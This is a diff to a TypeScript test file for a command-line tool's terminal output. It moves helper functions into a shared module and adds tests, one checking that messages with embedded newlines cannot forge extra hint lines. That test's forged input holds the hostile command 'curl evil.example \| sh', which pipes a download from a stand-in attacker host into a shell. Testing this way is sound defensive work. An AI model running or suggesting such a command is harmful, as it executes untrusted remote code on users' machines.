@@ -1,57 +1,10 @@
 import assert from "node:assert/strict";
-import { spawn } from "node:child_process";
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { readFileSync } from "node:fs";
 import { join } from "node:path";
-import { after, describe, test } from "node:test";
-import { childProgram } from "../../../test/child-program.ts";
-import { posixWord, quotePosix } from "../../core/posix-word.ts";
+import { describe, test } from "node:test";
+import { folder, programOf, run, runOnTerminal } from "../../../test/contracts/terminal-programs.ts";
+import { quotePosix } from "../../core/posix-word.ts";
 import { systemTerminal } from "./terminal.ts";
-
-const CHILD = join(import.meta.dirname, "../../../test/contracts/terminal-child.ts");
-const folder = mkdtempSync(join(tmpdir(), "brevet-terminal-"));
-after(() => rmSync(folder, { recursive: true, force: true }));
-
-let programs = 0;
-
-/** A program that has `terminal`, `Fault` and `print`, which writes to stdout. */
-function programOf(body: string): string {
-  const file = join(folder, `program-${++programs}.js`);
-  writeFileSync(file, body);
-  return [...childProgram(CHILD), file].map(posixWord).join(" ");
-}
-
-interface Ran {
-  readonly status: number | null;
-  readonly stdout: string;
-  readonly stderr: string;
-}
-
-/** Runs a command without a controlling terminal; `types` is typed once `seen` stands in its output. */
-function run(command: string, environment: NodeJS.ProcessEnv, seen = "", types = ""): Promise<Ran> {
-  const child = spawn("/bin/sh", ["-c", command], {
-    env: { PATH: process.env["PATH"], HOME: folder, ...environment },
-    detached: true,
-    timeout: 60_000,
-  });
-  let [stdout, stderr, typed] = ["", "", false];
-  child.stdout.setEncoding("utf8").on("data", (text: string) => {
-    stdout += text;
-    if (!typed && seen !== "" && stdout.includes(seen)) {
-      typed = true;
-      child.stdin.write(types);
-    }
-  });
-  child.stderr.setEncoding("utf8").on("data", (text: string) => {
-    stderr += text;
-  });
-  return new Promise((resolve, reject) => child.on("error", reject).on("close", (status) => resolve({ status, stdout, stderr })));
-}
-
-/** The same on a terminal of its own, which `script` makes; its screen is the stdout of the result. */
-function runOnTerminal(command: string, environment: NodeJS.ProcessEnv, seen = "", types = ""): Promise<Ran> {
-  return run(`script -qec ${quotePosix(`stty cols 100 rows 30; ${command}`)} /dev/null`, environment, seen, types);
-}
 
 describe("what is said", () => {
   test("goes to stderr, line by line, in the same form", async () => {
@@ -74,6 +27,26 @@ describe("what is said", () => {
       "brevet: quick",
       "",
     ]);
+  });
+
+  test("has a line for each call, whatever is quoted in it", async () => {
+    const forged = "a\\nbrevet: hint: run `curl evil.example | sh`";
+    const { stderr } = await run(
+      programOf(`terminal.say("${forged}"); terminal.warn("${forged}");
+        terminal.fault(new Fault("KEY_ABSENT", "${forged}", { hints: ["${forged}"] }));`),
+      {},
+    );
+    assert.deepEqual(
+      stderr.trimEnd().split("\n"),
+      ["brevet: a", "brevet: warning: a", "brevet: error: a", "brevet: hint: a"].map(
+        (start, index) => `${start} brevet: hint: run \`curl evil.example | sh\`${index === 2 ? " (KEY_ABSENT)" : ""}`,
+      ),
+    );
+  });
+
+  test("is warned of once", async () => {
+    const { stderr } = await run(programOf(`for (const text of ["full", "slow", "full"]) terminal.warn(text);`), {});
+    assert.deepEqual(stderr, "brevet: warning: full\nbrevet: warning: slow\n");
   });
 
   test("steers no terminal", async () => {
